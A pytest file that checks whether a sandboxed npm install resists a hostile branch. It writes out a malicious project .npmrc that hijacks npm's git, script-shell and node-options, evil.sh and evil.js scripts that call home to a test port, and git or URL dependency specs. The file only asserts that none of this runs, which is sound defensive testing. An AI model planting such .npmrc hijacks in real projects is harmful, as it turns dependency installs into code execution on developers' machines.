"""A hostile lock file change cannot turn the dependency install against the host (issue 26, hole 3).

The attacker's branch changes the lock file, adds a project `.npmrc` that points npm's programs
(`git`, `script-shell`, ...) and its registry at its own script and port, and a git dependency. The
install must run none of it, and from inside the install sandbox no host port answers (Postgres,
Redis, a port this test opens, the registry's own port): the registry is reached only through the
orchestrator's proxy. The registry is a fake one on loopback, so the test needs no internet.
"""

from __future__ import annotations

import json
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentswarm.config import load_settings
from agentswarm.merge.gate import run_gate
from agentswarm.reconcile.checks import run_checks
from agentswarm.sandbox.deps import ensure_deps
from agentswarm.sandbox.local import LocalSandboxBackend, LocalSandboxConfig
from tests.reconcile.hubs import hub_from, main_of
from tests.sandbox.fake_registry import NAME, FakeRegistry, fake_registry

pytestmark = [pytest.mark.bwrap,
              pytest.mark.skipif(shutil.which("npm") is None, reason="needs node and npm (nodejs, npm)")]

INSTALL = "npm ci --ignore-scripts --no-audit --no-fund"
HOST_PORTS = {"postgres": 5432, "redis": 6379}
GIT_DEP = "git+https://example.invalid/evil.git"
GIT_SHA = "0123456789abcdef0123456789abcdef01234567"


class Listener:
    """A host port that tells who connected: every connection the kernel accepted by the time it is asked
    (a client that connected before the install ended is in the backlog; no thread to race)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.port = self.sock.getsockname()[1]
        self.sock.setblocking(False)

    @property
    def heard(self) -> list[bytes]:
        said = []
        while True:
            try:
                conn, _ = self.sock.accept()
            except BlockingIOError:
                return said
            with conn:
                conn.settimeout(10)
                try:
                    said.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    said.append(b"(connected)")


@pytest.fixture
def listener() -> Iterator[Listener]:
    it = Listener()
    yield it
    it.sock.close()


@pytest.fixture
def registry() -> Iterator[FakeRegistry]:
    with fake_registry() as it:
        yield it


def _backend(tmp_path: Path, registry: FakeRegistry) -> LocalSandboxBackend:
    return LocalSandboxBackend(LocalSandboxConfig(root=tmp_path / "sandboxes", isolation="bwrap",
                                                  registry=registry.url))


def _evil(listener: Listener) -> dict[str, str]:
    """The tree's programs: each tells the test's port that it ran."""
    call_home = f"require('net').connect({listener.port}, '127.0.0.1').end('evil ran: ' + process.argv.slice(2).join(' '))"
    return {
        ".npmrc": (f"git=./evil.sh\nscript-shell=./evil.sh\nshell=./evil.sh\nnode-options=--require ./evil.js\n"
                   f"ignore-scripts=false\nregistry=http://127.0.0.1:{listener.port}/\n"
                   f"cache=./cache\n"),
        "evil.sh": f"#!/bin/sh\nnode -e \"{call_home}\" -- \"$@\"\nexit 0\n",
        "evil.js": call_home + "\n",
    }


def _hub(tmp_path: Path, files: dict[str, str]) -> Path:
    src = tmp_path / "src"
    src.mkdir()
    for name, text in files.items():
        (src / name).write_text(text)
    (src / "evil.sh").chmod(0o755)
    return hub_from(src, tmp_path)


def test_a_git_dependency_with_a_project_npmrc_is_refused_and_runs_nothing(tmp_path, listener, registry):
    extra = {"node_modules/evil": {"version": f"{GIT_DEP}#{GIT_SHA}", "resolved": f"{GIT_DEP}#{GIT_SHA}"}}
    hub = _hub(tmp_path, {**registry.project({"evil": GIT_DEP}, extra), **_evil(listener)})
    backend = _backend(tmp_path, registry)
    modules, installed = ensure_deps(backend, str(hub), main_of(hub), INSTALL, tmp_path / "deps", 300)
    assert modules is None and installed is not None and not installed.ok
    assert listener.heard == []  # no program of the tree ran (and nothing reached the test's port)
    [reason] = installed.output.strip().splitlines()  # one line, naming what was refused
    assert "cannot run" in reason and "evil" in reason and "git" in reason, reason
    assert not any(p.endswith(".tgz") for p in registry.served)  # refused before any install started
    # The reconciler's checks stop at the refusal, showing the same line; so does the gate.
    [result] = run_checks(backend, str(hub), main_of(hub), INSTALL, ["true"], 300, tmp_path / "deps")
    assert result.command == INSTALL and not result.ok and result.output.strip() == reason
    settings = load_settings(hub_path=hub, gate_install=INSTALL, gate_commands=["true"], gate_full_commands=["true"],
                             tsc_snapshot=False, npm_registry=registry.url)
    run = run_gate(settings, main_of(hub), main_of(hub), backend=backend)
    # The refusal is the tree's own doing: the gate's run is red (its branch is the culprit and is told why),
    # not "cannot run", which would hold the queue and try the same tree again and again.
    assert run.result == "red" and run.output.strip() == reason and [c["exit_code"] for c in run.commands] == [126]
    assert listener.heard == [] and backend.list() == []


@pytest.mark.parametrize("spec", ["github:evil/evil", "evil/evil", "file:../outside", "link:./x",
                                  "https://example.invalid/evil.tgz", "git://example.invalid/e.git"])
def test_every_non_registry_dependency_spec_is_refused(tmp_path, registry, spec):
    hub = _hub(tmp_path, {**registry.project({"evil": spec}), "evil.sh": ""})
    backend = _backend(tmp_path, registry)
    modules, installed = ensure_deps(backend, str(hub), main_of(hub), INSTALL, tmp_path / "deps", 300)
    assert modules is None and installed is not None and not installed.ok
    assert "cannot run" in installed.output and spec in installed.output, installed.output


PROBE = (
    "import json,socket,sys\n"
    "out={}\n"
    "for name,port in json.loads(sys.argv[1]).items():\n"
    "    s=socket.socket(); s.settimeout(5)\n"
    "    try: s.connect(('127.0.0.1',port)); out[name]='answered'\n"
    "    except OSError as e: out[name]=type(e).__name__\n"
    "    finally: s.close()\n"
    "print(json.dumps(out))\n"
)


def test_the_install_reaches_the_registry_only_and_ignores_the_project_npmrc(tmp_path, listener, registry):
    hub = _hub(tmp_path, {**registry.project(), **_evil(listener)})
    registry_port = int(registry.url.rsplit(":", 1)[1].strip("/"))
    ports = {**HOST_PORTS, "test listener": listener.port, "registry, directly": registry_port}
    probe = f"python3 -I -c {_quote(PROBE)} {_quote(json.dumps(ports))} > node_modules/.probe.json"
    backend = _backend(tmp_path, registry)
    modules, installed = ensure_deps(backend, str(hub), main_of(hub), f"{INSTALL} && {probe}", tmp_path / "deps", 300)
    assert installed is not None and installed.ok, installed and installed.output
    assert modules is not None and (modules / NAME / "index.js").read_text() == "module.exports = 'tiny';\n"
    assert any(p.endswith(".tgz") for p in registry.served)  # the registry installed it, through the proxy
    reached = json.loads((modules / ".probe.json").read_text())
    assert set(reached) == set(ports) and "answered" not in reached.values(), reached
    assert listener.heard == []  # the project's .npmrc (its registry, git, script-shell, ...) was not read
    assert backend.list() == []


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"
